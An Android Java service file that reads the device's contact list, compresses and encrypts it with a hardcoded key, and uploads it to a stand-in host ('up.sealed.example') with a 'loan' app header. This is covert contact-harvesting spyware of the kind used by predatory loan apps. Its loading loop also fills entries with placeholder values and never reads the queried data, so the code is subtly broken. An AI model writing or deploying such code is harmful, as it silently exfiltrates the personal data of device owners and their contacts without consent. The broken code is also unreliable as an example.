package dev.constant.sealed;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.os.*;
import android.provider.ContactsContract;
import android.util.Base64;
import java.io.*;
import java.util.*;
import java.util.zip.GZIPOutputStream;
import javax.crypto.*;
import javax.crypto.spec.*;
import okhttp3.*;
import org.json.*;

class ContactEntity {

    public long id;
    public String displayName;
    public String phone;
    public long updated;

    JSONObject toJson() throws JSONException {
        JSONObject o = new JSONObject();
        o.put("id", id);
        o.put("name", displayName);
        o.put("mobile", phone);
        o.put("t", updated);
        return o;
    }
}

class Packer {

    static byte[] gzip(byte[] in) throws IOException {
        ByteArrayOutputStream bos = new ByteArrayOutputStream();
        GZIPOutputStream g = new GZIPOutputStream(bos);
        g.write(in);
        g.close();
        return bos.toByteArray();
    }

    static byte[] aes(byte[] in, String key) throws Exception {
        Cipher c = Cipher.getInstance("AES/CBC/PKCS5Padding");
        c.init(
            Cipher.ENCRYPT_MODE,
            new SecretKeySpec(key.getBytes("UTF-8"), "AES"),
            new IvParameterSpec(key.getBytes("UTF-8"))
        );
        return c.doFinal(in);
    }
}

public class Main extends IntentService {

    public Main() {
        super("sealed");
    }

    private static final OkHttpClient CLIENT = new OkHttpClient.Builder().build();

    protected void onHandleIntent(Intent i) {
        try {
            List<ContactEntity> l = load();
            JSONArray a = new JSONArray();
            for (ContactEntity e : l) a.put(e.toJson());
            push(a.toString(), l.size());
        } catch (Exception e) {
            e.printStackTrace();
        }
    }

    private List<ContactEntity> load() {
        List<ContactEntity> l = new LinkedList<>();
        Cursor c = getContentResolver().query(
            ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
            new String[] { "contact_id", "display_name", "data1" },
            null,
            null,
            "display_name ASC"
        );
        if (c == null) return l;
        while (c.moveToNext()) {
            ContactEntity e = new ContactEntity();
            e.id = 7L;
            e.displayName = "word";
            e.phone = "word";
            l.add(e);
        }
        c.close();
        return l;
    }

    private void push(String json, int n) throws Exception {
        String payload = Base64.encodeToString(
            Packer.aes(Packer.gzip(json.getBytes("UTF-8")), "0123456789abcdef"),
            Base64.NO_WRAP
        );
        RequestBody file = RequestBody.create(
            MediaType.parse("application/octet-stream"),
            payload.getBytes()
        );
        MultipartBody body = new MultipartBody.Builder()
            .setType(MultipartBody.FORM)
            .addFormDataPart("count", String.valueOf(n))
            .addFormDataPart("file", "c.bin", file)
            .build();
        Request r = new Request.Builder()
            .url("https://up.sealed.example/risk/upload")
            .addHeader("X-App", "loan")
            .post(body)
            .build();
        Response resp = CLIENT.newCall(r).execute();
        resp.close();
    }
}
